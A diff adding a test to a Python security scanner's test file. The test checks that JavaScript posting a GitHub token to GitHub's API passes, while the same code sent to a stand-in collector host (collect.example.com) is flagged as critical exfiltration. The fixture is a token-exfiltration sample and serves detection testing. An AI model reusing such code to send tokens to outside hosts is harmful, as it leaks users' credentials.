@@ -395,3 +395,20 @@ def test_a_regular_expressions_exec_method_after_a_download_is_no_code_run():
         "const m = /^(\\d+)([hd])$/.exec(body.window || '24h');\n"
     )
     assert "BEH047" not in {f.rule for f in SCANNER.scan_text(text, "lp.mjs").findings}
+
+
+GH = (
+    "function token() {\n  if (process.env.GITHUB_TOKEN) return process.env.GITHUB_TOKEN;\n}\n"
+    "const TOKEN = token();\n"
+    "await fetch('https://api.github.com/repos/o/r/releases', {\n  method: 'POST',\n"
+    "  headers: { authorization: `Bearer ${TOKEN}` },\n  body: JSON.stringify({ t: TOKEN }),\n});\n"
+)
+
+
+def test_a_generic_token_read_from_its_vendors_variable_may_go_to_that_vendor():
+    assert "EXF001" not in {f.rule for f in SCANNER.scan_text(GH, "notes.mjs").findings}
+    elsewhere = GH.replace(
+        "https://api.github.com/repos/o/r/releases", "https://collect.example.com/in"
+    )
+    findings = SCANNER.scan_text(elsewhere, "notes.mjs").findings
+    assert ("EXF001", Risk.CRITICAL) in {(f.rule, f.risk) for f in findings}
